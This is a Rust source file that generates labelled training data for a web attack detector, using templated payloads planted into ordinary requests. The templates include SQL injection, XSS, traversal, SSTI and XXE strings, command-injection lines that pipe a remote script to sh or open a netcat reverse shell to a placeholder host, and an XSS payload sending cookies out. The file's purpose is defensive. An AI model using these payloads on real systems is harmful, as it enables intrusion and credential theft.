//! Generated training examples: attacks from technique templates written here, and
//! ordinary modern traffic (JSON APIs, GraphQL, non-English text, tracking
//! parameters) so the model does not learn "not like CSIC's shop = attack".
//!
//! Attacks are planted into *carrier* requests taken from the normal training data:
//! one parameter's value is replaced by a payload (or the path by a probe, or the body
//! by an XML document). The context around the payload is then the same as normal
//! traffic, so the model has to learn the payload, not the site.
//!
//! Limits: the templates are ours (a few dozen techniques with random parts), so the
//! model knows these families and their usual spellings, not every evasion; its
//! category labels are exact for generated data (the template's family) and mean
//! nothing beyond it. No public payload list is copied (licence-free by construction).

use palisade_detect::HttpRequest;

use crate::category::Category;
use crate::rng::Rng;

/// One generated example.
#[derive(Debug, Clone)]
pub struct Generated {
    /// The request.
    pub request: HttpRequest,
    /// `Some(family)` for an attack, `None` for ordinary traffic.
    pub category: Option<Category>,
}

const WORDS: &[&str] = &[
    "users", "admin", "id", "name", "passwd", "login", "data", "items", "account", "x",
];
const TABLES: &[&str] = &[
    "users",
    "usuarios",
    "accounts",
    "information_schema.tables",
    "mysql.user",
];
const FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "windows/win.ini",
    "boot.ini",
    "proc/self/environ",
    "etc/hosts",
    "var/log/apache2/access.log",
    "WEB-INF/web.xml",
];
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "cat /etc/passwd",
    "uname -a",
    "ls -la",
    "wget http://203.0.113.9/x.sh",
    "curl -s evil.example/s|sh",
    "nc -e /bin/sh 203.0.113.9 4444",
    "ping -c 3 127.0.0.1",
    "sleep 5",
    "net user",
    "powershell -enc SQBFAFgA",
];
const PROBES: &[&str] = &[
    "/.git/config",
    "/.env",
    "/wp-login.php",
    "/wp-admin/install.php",
    "/phpmyadmin/index.php",
    "/admin/config.php",
    "/server-status",
    "/.aws/credentials",
    "/backup.sql",
    "/config.php.bak",
    "/cgi-bin/test-cgi",
    "/actuator/env",
    "/.DS_Store",
    "/etc/passwd",
    "/shell.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/",
    "/solr/admin/info/system",
];
const SCANNER_AGENTS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "Mozilla/5.00 (Nikto/2.1.6)",
    "masscan/1.3",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "WPScan v3.8.22",
    "ZmEu",
    "Wfuzz/3.1.0",
    "dirbuster",
];

fn pick<'a>(rng: &mut Rng, items: &[&'a str]) -> &'a str {
    rng.pick(items).copied().unwrap_or("x")
}

/// A payload of `family`, with random parts.
pub fn payload(rng: &mut Rng, family: Category) -> String {
    let n = rng.below(100);
    let w = pick(rng, WORDS);
    let t = pick(rng, TABLES);
    let f = pick(rng, FILES);
    let c = pick(rng, COMMANDS);
    let q = if rng.below(2) == 0 { "'" } else { "\"" };
    let tail = pick(rng, &["--", "#", "-- -", "/*", ";--", ""]);
    match family {
        Category::Sqli => match rng.below(12) {
            0 => format!("{n}{q} or {q}1{q}={q}1"),
            1 => format!("{q} OR 1=1{tail}"),
            2 => format!("{n} UNION SELECT null,{w},password FROM {t}{tail}"),
            3 => format!("{q} union all select @@version,{n}{tail}"),
            4 => format!("{n}; DROP TABLE {t}{tail}"),
            5 => format!("{n} AND SLEEP({}){tail}", 1 + rng.below(9)),
            6 => format!("{q}; waitfor delay '0:0:{}'{tail}", 1 + rng.below(9)),
            7 => format!("{n} AND extractvalue(1,concat(0x7e,(select {w} from {t}))){tail}"),
            8 => format!("{q}) or ({q}{w}{q}={q}{w}"),
            9 => format!("admin{q}{tail}"),
            10 => format!("{n}/**/UnIoN/**/SeLeCt/**/{w},{n}/**/fRoM/**/{t}"),
            _ => format!("{q} and substring((select {w} from {t} limit 1),1,1)={q}a"),
        },
        Category::Xss => match rng.below(10) {
            0 => format!("<script>alert({n})</script>"),
            1 => format!(
                "\"><script>document.location='http://203.0.113.{n}/?c='+document.cookie</script>"
            ),
            2 => format!("<img src=x onerror=alert({n})>"),
            3 => format!("<svg/onload=confirm({n})>"),
            4 => "javascript:alert(document.domain)".to_owned(),
            5 => format!("'><iframe src=javascript:alert({n})>"),
            6 => format!("<body onload=alert('{w}')>"),
            7 => format!("\" onmouseover=\"alert({n})\" x=\""),
            8 => format!("<ScRiPt src=//203.0.113.{n}/x.js></sCrIpT>"),
            _ => format!("<details open ontoggle=eval(atob('{w}'))>"),
        },
        Category::Traversal => {
            let depth = 2 + rng.below(6);
            let up = match rng.below(5) {
                0 => "../",
                1 => "..\\",
                2 => "....//",
                3 => "..%2f",
                _ => "%2e%2e/",
            };
            match rng.below(4) {
                0 => format!("{}{f}", up.repeat(depth)),
                1 => format!("/{f}"),
                2 => format!("{}{f}%00.jpg", up.repeat(depth)),
                _ => format!("file:///{f}"),
            }
        }
        Category::Cmdi => match rng.below(7) {
            0 => format!("; {c}"),
            1 => format!("| {c}"),
            2 => format!("$({c})"),
            3 => format!("`{c}`"),
            4 => format!("{n} && {c}"),
            5 => format!("{w}%0a{c}"),
            _ => format!("{n}||{c}||"),
        },
        Category::Rfi => match rng.below(6) {
            0 => format!("http://203.0.113.{n}/shell.txt?"),
            1 => "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned(),
            2 => format!("http://127.0.0.1:{}/admin", 1000 + rng.below(9000)),
            3 => "gopher://127.0.0.1:6379/_FLUSHALL".to_owned(),
            4 => format!("ftp://203.0.113.{n}/{w}.php"),
            _ => "http://[::1]/server-status".to_owned(),
        },
        Category::Ssti => match rng.below(6) {
            0 => format!("{{{{{n}*{n}}}}}"),
            1 => format!("${{{n}*{n}}}"),
            2 => "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}".to_owned(),
            3 => format!("<%= {n}*{n} %>"),
            4 => "${T(java.lang.Runtime).getRuntime().exec('id')}".to_owned(),
            _ => format!("#{{{n}*{n}}}"),
        },
        Category::Xxe => format!(
            "<?xml version=\"1.0\"?><!DOCTYPE {w} [<!ENTITY xxe SYSTEM \"file:///{f}\">]><{w}>&xxe;</{w}>"
        ),
        Category::Scanner => pick(rng, PROBES).to_owned(),
        Category::Other => match rng.below(4) {
            0 => format!("{w}%0d%0aSet-Cookie:%20{w}={n}"),
            1 => "A".repeat(600 + rng.below(2000)),
            2 => format!("{w}\r\nLocation: http://203.0.113.{n}/"),
            _ => format!("%{n}%n%s%s%s%x"),
        },
    }
}

/// Percent-encodes everything but unreserved characters (spaces as `+` sometimes).
pub fn encode(s: &str, rng: &mut Rng) -> String {
    let plus = rng.below(2) == 0;
    let mut out = String::with_capacity(s.len() * 2);
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(char::from(b))
            }
            b' ' if plus => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

/// Replaces one parameter value of `carrier` (query or form body) with `value`
/// (already encoded); adds a parameter when the carrier has none.
fn plant(carrier: &HttpRequest, value: &str, rng: &mut Rng) -> HttpRequest {
    let mut r = carrier.clone();
    let form = !r.body.is_empty()
        && r.headers.iter().any(|(k, v)| {
            k.eq_ignore_ascii_case("content-type") && v.contains("x-www-form-urlencoded")
        });
    let replace = |qs: &str, rng: &mut Rng| -> Option<String> {
        let pairs: Vec<&str> = qs.split('&').collect();
        if pairs.is_empty() || qs.is_empty() {
            return None;
        }
        let at = rng.below(pairs.len());
        let out: Vec<String> = pairs
            .iter()
            .enumerate()
            .map(|(i, p)| {
                if i == at {
                    let name = p.split('=').next().unwrap_or(p);
                    format!("{name}={value}")
                } else {
                    (*p).to_owned()
                }
            })
            .collect();
        Some(out.join("&"))
    };
    if form {
        let body = String::from_utf8_lossy(&r.body).into_owned();
        if let Some(b) = replace(&body, rng) {
            r.body = b.into_bytes();
            fix_length(&mut r);
            return r;
        }
    }
    if let Some((path, qs)) = carrier.uri.split_once('?')
        && let Some(q) = replace(qs, rng)
    {
        r.uri = format!("{path}?{q}");
        return r;
    }
    let name = pick(rng, WORDS);
    let sep = if r.uri.contains('?') { '&' } else { '?' };
    r.uri = format!("{}{sep}{name}={value}", r.uri);
    r
}

fn fix_length(r: &mut HttpRequest) {
    let len = r.body.len().to_string();
    for (k, v) in &mut r.headers {
        if k.eq_ignore_ascii_case("content-length") {
            *v = len.clone();
        }
    }
}

fn set_header(r: &mut HttpRequest, name: &str, value: &str) {
    r.headers.retain(|(k, _)| !k.eq_ignore_ascii_case(name));
    r.headers.push((name.to_owned(), value.to_owned()));
}

/// One attack of `family` planted in `carrier`.
pub fn attack(carrier: &HttpRequest, family: Category, rng: &mut Rng) -> HttpRequest {
    let p = payload(rng, family);
    match family {
        Category::Scanner => {
            let mut r = carrier.clone();
            let origin = r
                .uri
                .find("://")
                .and_then(|i| r.uri[i + 3..].find('/').map(|j| &carrier.uri[..i + 3 + j]))
                .unwrap_or("");
            r.uri = format!("{origin}{p}");
            r.method = "GET".into();
            r.body.clear();
            if rng.below(2) == 0 {
                set_header(&mut r, "User-Agent", pick(rng, SCANNER_AGENTS));
            }
            r
        }
        Category::Xxe => {
            let mut r = carrier.clone();
            r.method = "POST".into();
            r.body = p.into_bytes();
            set_header(&mut r, "Content-Type", "application/xml");
            let len = r.body.len().to_string();
            set_header(&mut r, "Content-Length", &len);
            r
        }
        _ if rng.below(10) == 0 => {
            // Some attacks ride in the User-Agent or Referer instead of a parameter.
            let mut r = carrier.clone();
            let h = if rng.below(2) == 0 {
                "User-Agent"
            } else {
                "Referer"
            };
            set_header(&mut r, h, &p);
            r
        }
        _ => {
            let encoded = encode(&p, rng);
            plant(carrier, &encoded, rng)
        }
    }
}

const TEXTS: &[&str] = &[
    "Grüße aus München",
    "東京 ラーメン おすすめ",
    "что такое квантовая физика",
    "best running shoes 2024",
    "C'est la vie, n'est-ce pas ?",
    "مرحبا بالعالم",
    "how to fix \"permission denied\" error",
    "O'Brien & Sons Ltd.",
    "50% off - today only!",
    "naïve café résumé",
    "SELECT your plan: basic or pro",
    "Tom & Jerry (1940) <classic>",
    "where is my order #4521?",
    "한국어 텍스트 예시",
    "email me at jane.doe@example.org",
];

const SEGMENTS: &[&str] = &[
    "blog",
    "images",
    "static",
    "assets",
    "css",
    "js",
    "docs",
    "about",
    "products",
    "news",
    "2015",
    "2023",
    "en",
    "de",
    "articles",
    "files",
    "downloads",
    "user",
    "help",
    "category",
    "presentations",
    "media",
    "img",
    "fonts",
    "wiki",
    "shop",
    "cart",
    "search",
    "archive",
    "projects",
    "team",
    "contact",
    "v1",
    "v2",
    "feed",
    "tags",
    "page",
    "posts",
    "events",
];
const EXTENSIONS: &[&str] = &[
    "", "", "", ".html", ".png", ".jpg", ".css", ".js", ".gif", ".svg", ".xml", ".pdf", ".ico",
    ".woff2", ".json", ".txt", ".php", ".aspx",
];
const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v}.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "okhttp/4.{v}.0",
    "python-requests/2.{v}.0",
    "curl/7.{v}.1",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
];

/// A random site path (`/blog/2015/news-item.html`), so no site's paths are "normal".
fn site_path(rng: &mut Rng) -> String {
    let depth = 1 + rng.below(4);
    let mut p = String::new();
    for i in 0..depth {
        p.push('/');
        p.push_str(pick(rng, SEGMENTS));
        if i + 1 == depth && rng.below(2) == 0 {
            p.push('-');
            p.push_str(pick(rng, SEGMENTS));
        }
    }
    p.push_str(pick(rng, EXTENSIONS));
    p
}

fn user_agent(rng: &mut Rng) -> String {
    pick(rng, BROWSERS).replace("{v}", &(10 + rng.below(110)).to_string())
}

/// One ordinary modern request (static files and pages of any site, JSON API,
/// GraphQL, search text, tracking link).
pub fn ordinary(rng: &mut Rng) -> HttpRequest {
    let text = pick(rng, TEXTS);
    let n = rng.below(100_000);
    let token: String = (0..(20 + rng.below(120)))
        .map(|_| {
            let c = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
            char::from(c.get(rng.below(c.len())).copied().unwrap_or(b'a'))
        })
        .collect();
    let mut headers = vec![
        ("Host".to_owned(), "app.example.com".to_owned()),
        (
            "User-Agent".to_owned(),
            pick(
                rng,
                &[
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
                    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
                    "okhttp/4.12.0",
                    "python-requests/2.31.0",
                ],
            )
            .to_owned(),
        ),
    ];
    headers[1].1 = user_agent(rng);
    let (method, uri, body) = match rng.below(9) {
        0 => (
            "GET",
            format!("/search?q={}&page={}", encode(text, rng), 1 + rng.below(9)),
            String::new(),
        ),
        1 => (
            "GET",
            format!(
                "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_{n}&gclid={token}&fbclid={token}"
            ),
            String::new(),
        ),
        2 => (
            "POST",
            "/api/v1/orders".to_owned(),
            format!(
                "{{\"customer\":{{\"name\":\"{}\",\"id\":{n}}},\"items\":[{{\"sku\":\"A-{n}\",\"qty\":2}}],\"note\":\"{}\"}}",
                text.replace('"', "'"),
                text.replace('"', "'")
            ),
        ),
        3 => (
            "POST",
            "/graphql".to_owned(),
            format!(
                "{{\"query\":\"query GetUser($id: ID!) {{ user(id: $id) {{ id name posts(first: 10) {{ edges {{ node {{ title }} }} }} }} }}\",\"variables\":{{\"id\":\"{n}\"}}}}"
            ),
        ),
        4 => (
            "GET",
            format!("/api/v2/items/{n}?fields=id,name,price&sort=-created_at&token={token}"),
            String::new(),
        ),
        5 | 6 => ("GET", site_path(rng), String::new()),
        7 => (
            "GET",
            format!(
                "{}?{}={}&{}={n}",
                site_path(rng),
                pick(rng, SEGMENTS),
                encode(pick(rng, TEXTS), rng),
                pick(rng, WORDS)
            ),
            String::new(),
        ),
        _ => (
            "PUT",
            format!("/api/users/{n}/profile"),
            format!(
                "{{\"bio\":\"{}\",\"website\":\"https://example.org/~{n}\",\"tags\":[\"a\",\"b\"]}}",
                text.replace('"', "'")
            ),
        ),
    };
    if !body.is_empty() {
        headers.push(("Content-Type".into(), "application/json".into()));
    }
    HttpRequest {
        method: method.into(),
        uri,
        protocol: "HTTP/1.1".into(),
        headers,
        body: body.into_bytes(),
        client_ip: None,
    }
}

/// `attacks` attacks (families in turn) planted in `carriers`, and `normal` ordinary
/// requests; deterministic for `seed`. Without carriers a bare GET carries the attack.
pub fn corpus(
    carriers: &[HttpRequest],
    attacks: usize,
    normal: usize,
    seed: u64,
) -> Vec<Generated> {
    let mut rng = Rng::new(seed);
    let bare = HttpRequest {
        method: "GET".into(),
        uri: "/index.php?page=1".into(),
        protocol: "HTTP/1.1".into(),
        headers: vec![("Host".into(), "example.com".into())],
        ..Default::default()
    };
    let mut out = Vec::with_capacity(attacks + normal);
    for i in 0..attacks {
        let family = Category::from_index(i % Category::ALL.len());
        let carrier = rng.pick(carriers).unwrap_or(&bare).clone();
        out.push(Generated {
            request: attack(&carrier, family, &mut rng),
            category: Some(family),
        });
    }
    for _ in 0..normal {
        out.push(Generated {
            request: ordinary(&mut rng),
            category: None,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_is_deterministic_and_covers_every_family() {
        let a = corpus(&[], 90, 10, 3);
        let b = corpus(&[], 90, 10, 3);
        assert_eq!(a.len(), 100);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.request.uri, y.request.uri);
            assert_eq!(x.request.body, y.request.body);
        }
        for c in Category::ALL {
            assert!(a.iter().any(|g| g.category == Some(c)), "{c:?}");
        }
        assert_eq!(a.iter().filter(|g| g.category.is_none()).count(), 10);
    }

    #[test]
    fn planting_replaces_a_value_and_keeps_the_carrier() {
        let mut rng = Rng::new(1);
        let carrier = HttpRequest {
            method: "POST".into(),
            uri: "http://localhost:8080/shop/buy.jsp".into(),
            headers: vec![
                (
                    "Content-Type".into(),
                    "application/x-www-form-urlencoded".into(),
                ),
                ("Content-Length".into(), "7".into()),
            ],
            body: b"id=2&q=3".to_vec(),
            ..Default::default()
        };
        let r = plant(&carrier, "%27+or+1%3D1", &mut rng);
        let body = String::from_utf8(r.body.clone()).unwrap();
        assert!(body.contains("%27+or+1%3D1"), "{body}");
        assert_eq!(r.uri, carrier.uri);
        let len = r.headers.iter().find(|h| h.0 == "Content-Length").unwrap();
        assert_eq!(len.1, body.len().to_string());
        let s = attack(&carrier, Category::Scanner, &mut rng);
        assert!(s.uri.starts_with("http://localhost:8080/"), "{}", s.uri);
    }
}
